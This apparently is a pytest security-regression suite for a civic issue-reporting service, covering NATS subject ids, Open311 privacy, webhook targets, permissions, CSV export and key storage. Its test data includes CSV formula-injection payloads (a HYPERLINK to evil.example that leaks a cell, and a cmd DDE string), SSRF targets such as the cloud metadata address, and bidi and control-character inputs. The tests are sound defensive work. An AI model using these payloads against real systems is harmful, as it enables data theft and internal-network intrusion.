"""The security review's fixes (issue 17), over real HTTP, NATS and Postgres: path ids that could be NATS
wildcards, what Open311 shows without a key, webhook targets, who files what, CSV cells, and the small ones.
Every test here failed on the code before the fix."""
from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest

from tests.support import NeedleHandle, module_needle

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
PROBLEM = "application/problem+json"
GW1 = ("grid_worker", "area:wuxing-g1")
ROADS = ("handler", "dept:dinghai-roads")
SUP_DINGHAI = ("supervisor", "area:dinghai")
ADMIN = ("admin", "")
ROAD = {"grid": "wuxing-g1", "category": "road_damage", "title": "pothole on Huannan Road"}


def problem(r: httpx.Response, status: int, field: str | None = None) -> dict[str, Any]:
    assert r.status_code == status, f"{r.status_code} {r.text}"
    assert r.headers["content-type"].startswith(PROBLEM), r.headers["content-type"]
    body: dict[str, Any] = r.json()
    if field is not None:
        assert field in {body.get("field")} | {e.get("field") for e in body.get("errors", [])}, body
    return body


@pytest.fixture(scope="module")
async def h(tmp_path_factory: pytest.TempPathFactory, pg_url: str) -> AsyncIterator[NeedleHandle]:
    async with module_needle(tmp_path_factory.mktemp("hardening"), pg_url, "hardening") as handle:
        yield handle


async def report_ok(h: NeedleHandle, body: dict[str, Any] | None = None, who: tuple[str, str] = GW1) -> str:
    r = await h.client.post("/v1/issues", json=body or ROAD, headers=h.auth(*who))
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


# -- item 4: ids from a path never reach a NATS subject unchecked ------------------------------------------------
@pytest.mark.parametrize("bad", ["*-1", ">-1", "%3E-1", "*", ">", "a.b-1", "abc-1%0A"])
@pytest.mark.parametrize("verb", ["acknowledge", "return", "resolve", "extension", "extension/approve"])
async def test_a_task_id_that_could_be_a_subject_wildcard_is_422_naming_the_path_param(
        h: NeedleHandle, bad: str, verb: str) -> None:
    who = SUP_DINGHAI if verb == "extension/approve" else ROADS
    body = {"return": {"reason": "not ours"}, "resolve": {"note": "x"},
            "extension": {"extension": "PT1H", "reason": "rain"}}.get(verb)
    r = await h.client.post(f"/v1/tasks/{bad}/{verb}", json=body, headers=h.auth(*who))
    problem(r, 422, "task_id")


@pytest.mark.parametrize("bad", ["*", "%3E", "ABC", "a%00b"])
async def test_an_issue_id_that_could_be_a_subject_wildcard_is_422_naming_the_path_param(
        h: NeedleHandle, bad: str) -> None:
    for method, path, who in [("GET", "", ADMIN), ("GET", "/events", ADMIN), ("GET", "/audit", ADMIN),
                              ("POST", "/verify", GW1), ("POST", "/feedback", GW1), ("POST", "/escalate", GW1),
                              ("POST", "/urge", SUP_DINGHAI), ("POST", "/resolve-on-site", GW1)]:
        body = {"/verify": {"passed": True}, "/feedback": {"satisfaction": "satisfied"},
                "/escalate": {"reason": "r"}}.get(path)
        r = await h.client.request(method, f"/v1/issues/{bad}{path}", json=body, headers=h.auth(*who))
        problem(r, 422, "issue_id")


async def test_a_well_formed_unknown_task_is_still_404(h: NeedleHandle) -> None:
    issue_id = await report_ok(h)
    problem(await h.client.post(f"/v1/tasks/{issue_id}-9/acknowledge", headers=h.auth(*ROADS)), 404)
    problem(await h.client.get("/v1/issues/0123456789abcdefghjkmnpqrs", headers=h.auth(*ADMIN)), 404)


# -- item 1: what Open311 shows without a key ------------------------------------------------------------------
V2 = "/open311/v2"
SECRET_TEXT = "flat 3-1102, Mr Zhang's door"


async def a_worked_issue(h: NeedleHandle) -> str:
    """A road issue with a private description, an exact point and address, returned once with a reason."""
    body = ROAD | {"description": SECRET_TEXT, "location": {"lat": 30.012345, "lon": 122.106789,
                                                            "address": "Huannan Road 88"}}
    issue_id = await report_ok(h, body)
    issue = await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN), lambda b: len(b["tasks"]) >= 2)
    lead = next(t["id"] for t in issue["tasks"] if t["role"] == "lead")
    r = await h.client.post(f"/v1/tasks/{lead}/resolve", json={"note": "the note names Mr Zhang"},
                            headers=h.auth(*ROADS))
    assert r.status_code == 200, r.text
    return issue_id


def assert_anonymous(req: dict[str, Any]) -> None:
    text = str(req)
    assert req["description"] is None and SECRET_TEXT not in text and "Zhang" not in text, req
    assert "Huannan Road 88" not in text, req
    assert req["status"] == "open" and req["service_code"] == "road_damage" and req["requested_datetime"]
    assert req["lat"] == 30.012 and req["long"] == 122.107, req  # rounded to 3 decimals


async def test_open311_reads_without_a_key_show_no_free_text_and_a_rounded_point(h: NeedleHandle) -> None:
    issue_id = await a_worked_issue(h)
    r = await h.client.get(f"{V2}/requests/{issue_id}.json")
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store"
    (req,) = r.json()
    assert_anonymous(req)
    assert "awaiting verification" in req["status_notes"], req
    (by_id,) = (await h.client.get(f"{V2}/requests.json", params={"service_request_id": issue_id})).json()
    assert_anonymous(by_id)
    # the list (read models): no title either
    listed = []
    for _ in range(100):
        listed = [x for x in (await h.client.get(f"{V2}/requests.json")).json() if x["service_request_id"] == issue_id]
        if listed:
            break
        await asyncio.sleep(0.1)
    assert listed and listed[0]["description"] is None, listed
    assert "pothole" not in str(listed)


@pytest.mark.parametrize(("who", "full"), [(GW1, True), (SUP_DINGHAI, True), (ROADS, True), (ADMIN, True),
                                           (("integrator", ""), True), (("grid_worker", "area:wuxing-g2"), False),
                                           (("supervisor", "area:wuxing-g2"), False),
                                           (("handler", "dept:wuxing-committee"), False)])
async def test_open311_full_detail_needs_a_key_that_covers_the_issue(
        h: NeedleHandle, who: tuple[str, str], full: bool) -> None:
    issue_id = await a_worked_issue(h)
    r = await h.client.get(f"{V2}/requests/{issue_id}.json", headers=h.auth(*who))
    assert r.status_code == 200, r.text
    (req,) = r.json()
    if full:
        assert req["description"] == SECRET_TEXT and req["address"] == "Huannan Road 88", req
        assert req["lat"] == 30.012345 and "Mr Zhang" in req["status_notes"], req
    else:
        assert_anonymous(req)


async def test_open311_refuses_a_bad_key_on_reads_and_any_key_in_the_query_string(h: NeedleHandle) -> None:
    r = await h.client.get(f"{V2}/requests.json", headers={"Authorization": "Bearer not-a-token"})
    assert r.status_code == 403 and "api_key" in r.json()[0]["description"], r.text
    key = h.token("integrator", "")
    r = await h.client.get(f"{V2}/requests.json", params={"api_key": key})
    assert r.status_code == 400 and "query string" in r.json()[0]["description"], r.text
    r = await h.client.post(f"{V2}/requests.json?api_key={key}",
                            data={"service_code": "road_damage", "attribute[grid]": "wuxing-g1"})
    assert r.status_code == 400 and "query string" in r.json()[0]["description"], r.text


async def test_every_answer_without_caching_of_its_own_says_no_store(h: NeedleHandle) -> None:
    for path in (f"{V2}/services.json", f"{V2}/discovery.json", "/healthz", f"{V2}/requests/nope.json"):
        r = await h.client.get(path)
        assert r.headers.get("cache-control") == "no-store", (path, r.headers)
    assert (await h.client.get("/v1/schemas")).headers["cache-control"].startswith("public")


async def test_open311_anonymous_reads_are_rate_limited_per_client_address(needle_factory: Any) -> None:
    hh: NeedleHandle = await needle_factory(services=("intake",), open311_anonymous_per_s=0.01,
                                            open311_anonymous_burst=3)
    statuses = [(await hh.client.get(f"{V2}/requests/0123456789abcdefghjkmnpqrs.json")).status_code
                for _ in range(4)]
    assert statuses == [404, 404, 404, 429], statuses
    r = await hh.client.get(f"{V2}/requests/0123456789abcdefghjkmnpqrs.json")
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1 and r.json()[0]["code"] == 429
    # a key reads on its own (per subject) bucket
    r = await hh.client.get(f"{V2}/requests/0123456789abcdefghjkmnpqrs.json", headers=hh.auth(*ADMIN))
    assert r.status_code == 404, r.text


# -- item 2: webhooks cannot reach the internal network --------------------------------------------------------
HOOK = {"types": ["issue_reported"], "secret": "hardening-secret-0123456789"}


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/x", "http://localhost:8222/varz", "http://169.254.169.254/",
                                 "http://10.0.0.1/", "http://[::1]:4222/", "http://[::ffff:127.0.0.1]/",
                                 "https://192.168.1.1/", "http://0.0.0.0:5432/", "http://100.64.0.1/"])
async def test_a_webhook_to_an_internal_target_is_refused_at_registration(h: NeedleHandle, url: str) -> None:
    r = await h.client.post("/v1/webhooks", json=HOOK | {"url": url}, headers=h.auth("integrator", ""))
    problem(r, 422, "url")


async def test_the_operator_allows_listed_private_targets_and_caps_webhooks_per_owner(needle_factory: Any) -> None:
    hh: NeedleHandle = await needle_factory(services=("intake",), webhook_allow_private=["127.0.0.1"],
                                            webhook_max_per_owner=2)
    mine = hh.auth("integrator", "", subject="hardening-owner")
    for _ in range(2):
        r = await hh.client.post("/v1/webhooks", json=HOOK | {"url": "http://127.0.0.1:9/x"}, headers=mine)
        assert r.status_code == 201, r.text
    problem(await hh.client.post("/v1/webhooks", json=HOOK | {"url": "http://127.0.0.1:9/x"}, headers=mine), 409)
    problem(await hh.client.post("/v1/webhooks", json=HOOK | {"url": "http://10.0.0.1/x"},
                                 headers=hh.auth("integrator", "", subject="other")), 422, "url")  # not listed
    r = await hh.client.post("/v1/webhooks", json=HOOK | {"url": "http://127.0.0.1:9/x"},
                             headers=hh.auth("integrator", "", subject="another-owner"))
    assert r.status_code == 201, r.text
    hook = (await hh.client.get("/v1/webhooks", headers=mine)).json()[0]["id"]
    assert (await hh.client.delete(f"/v1/webhooks/{hook}", headers=mine)).status_code == 204
    r = await hh.client.post("/v1/webhooks", json=HOOK | {"url": "http://127.0.0.1:9/x"}, headers=mine)
    assert r.status_code == 201, r.text


async def test_every_connect_checks_the_target_and_connects_to_the_checked_address() -> None:
    """The delivery transport resolves once, refuses an internal address (a name registered while it pointed
    elsewhere, DNS rebinding) before any byte is sent, and connects to the address it checked."""
    from services.integrations.targets import AllowList
    from services.integrations.transport import KeepAliveTransport

    connections: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(writer.get_extra_info("peername")[0])
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        for url in (f"http://127.0.0.1:{port}/x", f"http://localhost:{port}/x"):
            async with httpx.AsyncClient(transport=KeepAliveTransport()) as client:
                with pytest.raises(httpx.ConnectError, match="target refused"):
                    await client.post(url, content=b"{}")
        assert connections == []
        async with httpx.AsyncClient(transport=KeepAliveTransport(allow=AllowList.parse(["localhost"]))) as client:
            r = await client.post(f"http://localhost:{port}/x", content=b"{}")
        assert r.status_code == 204 and connections == ["127.0.0.1"]
    finally:
        server.close()


# -- item 5: who files what ------------------------------------------------------------------------------------
DEMO_ORG = Path(__file__).resolve().parents[2] / "deploy" / "org" / "zhoushan.yaml"
DEMO_RULES = Path(__file__).resolve().parents[2] / "deploy" / "rules" / "zhoushan.yaml"
G33 = {"service_code": "sea_safety", "attribute[grid]": "zhanmao-g33", "description": "x"}


async def test_who_files_what_on_open311(needle_factory: Any) -> None:
    hh: NeedleHandle = await needle_factory(DEMO_ORG, DEMO_RULES, services=("intake",))

    async def post(who: tuple[str, str], **extra: str) -> httpx.Response:
        return await hh.client.post(f"{V2}/requests.json", data={"api_key": hh.token(*who), **G33, **extra})

    app = ("reporter", "")
    # integrators read (contract): never file; a public app files with a reporter key
    r = await post(("integrator", ""))
    assert r.status_code == 403 and "integrator" in r.json()[0]["description"], r.text
    assert (await post(app)).status_code == 201
    assert (await post(app, **{"attribute[urgency]": "urgent"})).status_code == 201
    # a flag that lifts no higher than the street: a reporter may; above the street: staff only
    assert (await post(app, **{"attribute[risk][]": "collective_petition"})).status_code == 201
    for flag in ("violence", "mass_casualty"):
        r = await post(app, **{"attribute[risk][]": flag})
        assert r.status_code == 403 and flag in r.json()[0]["description"], r.text
        assert (await post(("grid_worker", "area:zhanmao-g33"), **{"attribute[risk][]": flag})).status_code == 201
    r = await post(app, **{"attribute[urgency]": "emergency"})
    assert r.status_code == 403, r.text
    assert (await post(("admin", ""), **{"attribute[urgency]": "emergency"})).status_code == 201
    # a reporter key scoped to an area files there only
    assert (await post(("reporter", "area:zhanmao"))).status_code == 201
    assert (await post(("reporter", "area:dinghai"))).status_code == 403
    # handlers and supervisors file nothing here; a reporter nothing on /v1
    for who in (("handler", "dept:putuo-ocean"), ("supervisor", "area:putuo")):
        assert (await post(who)).status_code == 403, who
    r = await hh.client.post("/v1/issues", json={"grid": "zhanmao-g33", "category": "sea_safety", "title": "t"},
                             headers=hh.auth(*app))
    problem(r, 403)


# -- item 7: CSV formula injection -----------------------------------------------------------------------------
async def test_csv_export_neutralises_formula_cells(h: NeedleHandle) -> None:
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    for title in titles:
        await report_ok(h, ROAD | {"title": title})
    sup = h.auth(*SUP_DINGHAI)
    seen: list[str] = []
    for _ in range(100):
        r = await h.client.get("/v1/issues", params={"area": "wuxing", "format": "csv", "limit": 500}, headers=sup)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = list(csv.DictReader(io.StringIO(r.text)))
        seen = [row["title"] for row in rows if row["title"].lstrip("'") in titles]
        if len(seen) == len(titles):
            break
        await asyncio.sleep(0.1)
    assert sorted(seen) == sorted("'" + t for t in titles), seen


# -- item 11: small fixes --------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["²", "1" * 5000, "１２"])
async def test_a_last_event_id_that_is_no_ascii_sequence_is_422_not_500(h: NeedleHandle, value: str) -> None:
    headers: dict[str, Any] = h.auth(*ADMIN) | {"Last-Event-ID": value.encode()}  # raw UTF-8 bytes on the wire
    r = await h.client.get("/v1/events/stream", headers=headers)
    problem(r, 422, "Last-Event-ID")
    r = await h.client.get("/v1/events/stream", params={"last_event_id": value}, headers=h.auth(*ADMIN))
    problem(r, 422, "Last-Event-ID")


@pytest.mark.parametrize(("field", "text"), [("title", "a\x00b"), ("title", "a\x1bb"), ("title", "a\u202eb"),
                                             ("title", "line\nbreak"), ("description", "a\u2066b"),
                                             ("description", "bell\x07"), ("location", "road\u202d88")])
async def test_control_and_bidi_characters_are_refused_in_text_fields(h: NeedleHandle, field: str,
                                                                       text: str) -> None:
    body = dict(ROAD)
    if field == "location":
        body["location"] = {"lat": 30.0, "lon": 122.1, "address": text}  # type: ignore[assignment]
    else:
        body[field] = text
    problem(await h.client.post("/v1/issues", json=body, headers=h.auth(*GW1)), 422, field)


async def test_control_characters_are_refused_in_notes_reasons_and_campaigns(h: NeedleHandle) -> None:
    issue_id = await report_ok(h)
    issue = await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN), lambda b: len(b["tasks"]) >= 2)
    lead = next(t["id"] for t in issue["tasks"] if t["role"] == "lead")
    r = await h.client.post(f"/v1/tasks/{lead}/return", json={"reason": "not \u202eours"}, headers=h.auth(*ROADS))
    problem(r, 422, "reason")
    r = await h.client.post(f"/v1/tasks/{lead}/resolve", json={"note": "done\x00"}, headers=h.auth(*ROADS))
    problem(r, 422, "note")
    r = await h.client.post("/v1/campaigns", json={"area": "wuxing", "category": "road_damage", "title": "a\x00b"},
                            headers=h.auth(*ADMIN))
    problem(r, 422, "title")
    # multi-line text keeps its line breaks and tabs
    r = await h.client.post(f"/v1/tasks/{lead}/resolve", json={"note": "filled\n\tand rolled"},
                            headers=h.auth(*ROADS))
    assert r.status_code == 200, r.text


async def test_a_handler_loses_the_issue_once_its_task_is_returned(h: NeedleHandle) -> None:
    issue_id = await report_ok(h)
    issue = await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN), lambda b: len(b["tasks"]) >= 2)
    lead = next(t["id"] for t in issue["tasks"] if t["role"] == "lead")
    assert (await h.client.get(f"/v1/issues/{issue_id}", headers=h.auth(*ROADS))).status_code == 200
    r = await h.client.post(f"/v1/tasks/{lead}/return", json={"reason": "not ours"}, headers=h.auth(*ROADS))
    assert r.status_code == 200, r.text
    for suffix in ("", "/events"):
        problem(await h.client.get(f"/v1/issues/{issue_id}{suffix}", headers=h.auth(*ROADS)), 403)
    r = await h.client.get(f"/open311/v2/requests/{issue_id}.json", headers=h.auth(*ROADS))
    assert r.status_code == 200 and r.json()[0]["description"] is None  # the public view only


async def test_a_handler_loses_the_issue_once_its_task_is_superseded(h: NeedleHandle) -> None:
    issue_id = await report_ok(h)
    await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN), lambda b: len(b["tasks"]) >= 2)
    r = await h.client.post(f"/v1/issues/{issue_id}/escalate", json={"reason": "too big"}, headers=h.auth(*GW1))
    assert r.status_code == 202, r.text
    body = await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN),
                            lambda b: any(t["status"] == "superseded" for t in b["tasks"]))
    gone = {t["department"] for t in body["tasks"] if t["status"] == "superseded"}
    still = {t["department"] for t in body["tasks"] if t["status"] not in ("superseded", "returned")}
    for dept in gone - still:
        problem(await h.client.get(f"/v1/issues/{issue_id}", headers=h.auth("handler", f"dept:{dept}")), 403)
    for dept in still:
        assert (await h.client.get(f"/v1/issues/{issue_id}", headers=h.auth("handler", f"dept:{dept}"))
                ).status_code == 200
    assert gone - still, body["tasks"]


async def test_when_the_revocation_watch_dies_health_says_so_and_it_comes_back(h: NeedleHandle) -> None:
    from shared.revocation import Revocations
    from shared.store.revocations import RevocationFollower, open_bucket, revoke_token

    assert h.stack.nc is not None and h.stack.health.get("revocations") is True
    bucket = await open_bucket(h.stack.nc)
    health: dict[str, bool] = {}
    seen = Revocations()
    follower = RevocationFollower(bucket, seen, health=health, retry_s=0.2)
    await follower.start()
    try:
        assert health == {"revocations": True}
        assert follower._watcher is not None
        await follower._watcher.stop()  # the watch ends (as when its consumer is lost for good)
        for _ in range(50):
            if health["revocations"] is False:
                break
            await asyncio.sleep(0.01)
        assert health["revocations"] is False
        for _ in range(300):
            if health["revocations"]:
                break
            await asyncio.sleep(0.01)
        assert health["revocations"] is True
        jti = uuid.uuid4().hex
        await revoke_token(bucket, jti, at=0.0, by="hardening")
        for _ in range(300):
            if jti in seen.jtis:
                break
            await asyncio.sleep(0.01)
        assert jti in seen.jtis  # the watch that came back applies new revocations
    finally:
        await follower.stop()


# -- item 8: event streams: a cap per token subject, and the end at the token's expiry -------------------------
async def test_open_event_streams_are_capped_per_token_subject(needle_factory: Any) -> None:
    hh: NeedleHandle = await needle_factory(sse_max_per_subject=2)
    sup = hh.token("supervisor", "area:dinghai", subject="hardening-sse")
    other = hh.token("supervisor", "area:dinghai", subject="hardening-sse-other")
    same_subject_new_token = hh.token("supervisor", "area:wuxing", subject="hardening-sse")
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(2):
            r = await stack.enter_async_context(hh.client.stream(
                "GET", "/v1/events/stream", params={"live": "true"}, headers={"Authorization": f"Bearer {sup}"}))
            assert r.status_code == 200
        r = await hh.client.get("/v1/events/stream", headers={"Authorization": f"Bearer {same_subject_new_token}"})
        body = problem(r, 429)
        assert int(r.headers["Retry-After"]) >= 1 and "hardening-sse" in body["detail"]
        r = await hh.client.get("/dashboard/stream", params={"access_token": sup})
        problem(r, 429)  # the dashboard's stream counts too
        async with hh.client.stream("GET", "/dashboard/stream", params={"access_token": other}) as r:
            assert r.status_code == 200  # another subject is not held back
    # the streams closed: their slots are free again
    for _ in range(100):
        async with hh.client.stream("GET", "/dashboard/stream", params={"access_token": sup}) as r:
            if r.status_code == 200:
                break
        await asyncio.sleep(0.05)
    assert r.status_code == 200


async def test_an_event_stream_ends_when_its_token_expires(h: NeedleHandle) -> None:
    from shared import auth

    key = auth.load_or_create_key(h.stack.settings.data_dir)
    for path, params, name in [("/v1/events/stream", {"live": "true"}, "events"), ("/dashboard/stream", {}, "dash")]:
        token = auth.issue_token(key, role="supervisor", scope="area:dinghai", subject=f"expiring-{name}", ttl_s=2)
        if name == "dash":
            params = {"access_token": token}
        started = asyncio.get_running_loop().time()
        body = b""
        async with h.client.stream("GET", path, params=params,
                                   headers={} if name == "dash" else {"Authorization": f"Bearer {token}"}) as r:
            assert r.status_code == 200
            async with asyncio.timeout(8):  # before: the events stream ran on, the dashboard's for 60 s more
                async for chunk in r.aiter_bytes():
                    body += chunk
        took = asyncio.get_running_loop().time() - started
        assert took < 5, (name, took)
        if name == "dash":
            assert b"event: expired" in body, body
        assert (await h.client.get(path, params=params, headers={} if name == "dash" else
                                   {"Authorization": f"Bearer {token}"})).status_code == 401


# -- item 6: token subjects and lifetimes ----------------------------------------------------------------------
def test_needle_token_issue_gives_each_token_its_own_subject_and_a_role_lifetime(tmp_path: Path) -> None:
    import subprocess
    import sys

    import jwt

    needle = Path(sys.executable).parent / "needle"

    def issue(*args: str) -> tuple[dict[str, Any], str]:
        r = subprocess.run([str(needle), "token", "issue", "--data-dir", str(tmp_path), *args],
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stderr
        token = r.stdout.strip().splitlines()[-1]  # the token stays the last line of stdout
        return jwt.decode(token, options={"verify_signature": False}), r.stderr

    a, said = issue("--role", "grid_worker", "--scope", "area:wuxing-g1")
    b, _ = issue("--role", "grid_worker", "--scope", "area:wuxing-g1")
    assert a["sub"] != b["sub"] and a["sub"] in said, said  # two workers of one grid: two subjects
    assert a["exp"] - a["iat"] == 7 * 86400
    admin, _ = issue("--role", "admin")
    assert admin["exp"] - admin["iat"] == 8 * 3600  # before: 30 days
    named, said = issue("--role", "integrator", "--subject", "city-portal", "--ttl", "P1D")
    assert (named["sub"], named["exp"] - named["iat"]) == ("city-portal", 86400) and "subject" not in said


# -- item 3: the embedded Postgres asks for a password ---------------------------------------------------------
async def test_the_embedded_postgres_needs_its_password_and_an_old_trusting_cluster_is_fixed(tmp_path: Path) -> None:
    import stat

    import asyncpg

    from services.entrypoints.embedded import PG_PASSWORD_FILE, EmbeddedPostgres

    async def refused_without_password(port: int) -> None:
        with pytest.raises((asyncpg.PostgresError, asyncpg.InterfaceError)):  # before: trust, superuser
            conn = await asyncpg.connect(f"postgresql://postgres@127.0.0.1:{port}/postgres")
            await conn.close()
        with pytest.raises(asyncpg.PostgresError):
            conn = await asyncpg.connect(f"postgresql://postgres:guess@127.0.0.1:{port}/postgres")
            await conn.close()

    tmp_path.chmod(0o700)
    pg = EmbeddedPostgres(tmp_path / "data")
    await asyncio.to_thread(pg.start)
    assert _mode(tmp_path) == 0o700  # as root: the parents are not widened for the postgres user (was 0711)
    try:
        conn = await asyncpg.connect(pg.url)
        assert await conn.fetchval("SELECT 1") == 1
        await conn.close()
        await refused_without_password(pg.port)
        secret = tmp_path / "data" / PG_PASSWORD_FILE
        assert stat.S_IMODE(secret.stat().st_mode) == 0o600 and stat.S_IMODE(secret.parent.stat().st_mode) == 0o700
        assert len(secret.read_text().strip()) == 64 and secret.read_text().strip() in pg.url
        hba = (pg.pgdata / "pg_hba.conf").read_text()
        assert "trust" not in [line.split()[-1] for line in hba.splitlines() if line.strip() and line[0] != "#"]
    finally:
        await asyncio.to_thread(pg.stop)
    # a data dir from before: pg_hba.conf trusts everyone; the next start sets the password and asks for it
    hba_path = pg.pgdata / "pg_hba.conf"
    hba_path.write_text(hba_path.read_text().replace("scram-sha-256", "trust"))
    again = EmbeddedPostgres(tmp_path / "data")
    await asyncio.to_thread(again.start)
    try:
        conn = await asyncpg.connect(again.url)
        await conn.close()
        await refused_without_password(again.port)
    finally:
        await asyncio.to_thread(again.stop)


# -- item 9: files at rest -------------------------------------------------------------------------------------
def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


async def test_data_dir_files_are_private_from_their_creation(h: NeedleHandle, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Created 0600/0700, not chmod'ed afterwards: with chmod doing nothing (and a permissive umask) they are
    still private."""
    from services.entrypoints import cli
    from services.entrypoints.embedded import EmbeddedNats
    from services.ops.backup import backup
    from shared.files import prepare_data_dir

    monkeypatch.setattr(Path, "chmod", lambda self, mode: None)
    old_umask = os.umask(0o022)
    try:
        data = tmp_path / "data"
        prepare_data_dir(data)
        for d in (data, data / "logs", data / "nats", data / "secrets"):
            assert _mode(d) == 0o700, d
        settings = h.stack.settings.model_copy(update={"data_dir": data})
        cli.write_runtime(settings, "nats://x", "postgresql://postgres:pw@127.0.0.1:1/postgres", ("intake",))
        assert _mode(data / "runtime.json") == 0o600
        nats = EmbeddedNats(tmp_path / "nats-data")
        await asyncio.to_thread(nats.start)
        try:
            assert _mode(tmp_path / "nats-data" / "nats" / "nats.conf") == 0o600
            assert _mode(tmp_path / "nats-data" / "nats") == 0o700 and _mode(tmp_path / "nats-data" / "logs") == 0o700
        finally:
            await asyncio.to_thread(nats.stop)
        assert h.stack.nc is not None
        target = tmp_path / "backup"
        await backup(h.stack.nc, target, consumers=False)
        assert _mode(target) == 0o700
        files = list(target.iterdir())
        assert files and all(_mode(f) == 0o600 for f in files), {f.name: oct(_mode(f)) for f in files}
    finally:
        os.umask(old_umask)


# -- item 10 (part): personal data -----------------------------------------------------------------------------
async def test_forgetting_a_phone_reaches_residents_reported_under_an_explicit_id_and_subjects_hide_ids(
        h: NeedleHandle) -> None:
    from shared.events import subjects as sj

    digits = "139" + str(uuid.uuid4().int)[:8]
    explicit = f"hukou-{uuid.uuid4().hex[:10]}"

    async def filed(resident: dict[str, Any]) -> str:
        r = await h.client.post("/v1/issues", json=ROAD | {"resident": resident}, headers=h.auth(*GW1))
        assert r.status_code == 201, r.text
        return str(r.json()["id"])

    by_phone = await filed({"name": "王五", "phone": digits})
    by_id = await filed({"id": explicit, "name": "王五", "phone": digits})  # the same person, under a register id
    r = await h.client.delete(f"/v1/residents/{digits}", headers=h.auth(*ADMIN))  # by phone
    assert r.status_code == 204, r.text
    for issue_id in (by_phone, by_id):  # before: the explicit-id report kept its name and phone
        body = await h.wait_for(f"/v1/issues/{issue_id}", h.auth(*ADMIN),
                                lambda b: b["resident"]["name"] == "[erased]", timeout=10)
        assert body["resident"]["phone"] == "[erased]"
    # resident_forgotten subjects carry a keyed HMAC of the resident id, never the id itself
    assert h.stack.nc is not None
    js = h.stack.nc.jetstream()
    sub = await js.subscribe(sj.RESIDENT_EVENTS, ordered_consumer=True)
    subjects = []
    try:
        while True:
            try:
                msg = await sub.next_msg(timeout=1)
            except Exception:
                break
            subjects.append(msg.subject)
            assert explicit not in str(orjson.loads(msg.data)["id"]) and explicit not in str(msg.headers)
    finally:
        await sub.unsubscribe()
    assert len(subjects) >= 2
    assert not any(explicit in s or "res_" in s for s in subjects), subjects
    # nor in the key bucket's entry names (they are subjects too: $KV.NEEDLE_RESIDENT_KEYS.<name>)
    other = f"hukou-{uuid.uuid4().hex[:10]}"
    await filed({"id": other, "name": "钱七"})
    info = await js.stream_info("KV_NEEDLE_RESIDENT_KEYS", subjects_filter=">")
    names = list((info.state.subjects or {}).keys())
    assert names and not any(other in n or explicit in n for n in names), names


async def test_resident_data_keys_are_wrapped_with_a_key_encryption_key_kept_outside_nats(h: NeedleHandle) -> None:
    import stat

    from shared.privacy.keystore import KEK_FILE, ResidentKeys, load_or_create_kek

    r = await h.client.post("/v1/issues", json=ROAD | {"resident": {"name": "赵六", "phone": "13911112222"}},
                            headers=h.auth(*GW1))
    assert r.status_code == 201, r.text
    body = (await h.client.get(f"/v1/issues/{r.json()['id']}", headers=h.auth(*GW1))).json()
    rid = body["resident"]["id"]
    assert body["resident"]["name"] == "赵六"  # readable through the needle that holds the KEK
    assert h.stack.nc is not None and h.stack.residents is not None
    entry = await h.stack.residents.kv.get(await h.stack.residents.entry_name(rid))
    stored = orjson.loads(entry.value)
    assert "key" not in stored and "wrapped" in stored  # before: the data key itself, in NATS
    kek_path = h.stack.settings.data_dir / KEK_FILE
    assert stat.S_IMODE(kek_path.stat().st_mode) == 0o600
    # the bucket alone opens nothing; the KEK opens it
    bare = ResidentKeys(h.stack.nc)
    await bare.start(watch=False)
    assert (await bare.lookup(rid)).key == b""  # type: ignore[union-attr]
    with_kek = ResidentKeys(h.stack.nc, kek=load_or_create_kek(h.stack.settings))
    await with_kek.start(watch=False)
    assert (await with_kek.lookup(rid)).key == (await h.stack.residents.lookup(rid)).key  # type: ignore[union-attr]


async def test_a_key_stored_by_an_earlier_needle_is_still_read_and_forgotten(h: NeedleHandle) -> None:
    from shared.privacy.keystore import ResidentKey
    from shared.privacy.residents import forget

    keys = h.stack.residents
    assert keys is not None and h.stack.nc is not None
    rid = f"res_{uuid.uuid4().hex[:24]}"
    old = ResidentKey(rid, "0a1b2c3d4e5f6071", bytes(range(32)), None)
    await keys.kv.create(f"r.{rid}", old.encode())  # unwrapped, named by the id: as needle stored keys before
    found = await keys.lookup(rid)
    assert found is not None and found.key == old.key and found.name == f"r.{rid}"
    out = await forget(h.stack.nc, keys, rid, by="hardening", now=datetime.now(UTC))
    assert out.key_ids == ("0a1b2c3d4e5f6071",)
    keys._cache.clear()
    assert await keys.lookup(rid) is None
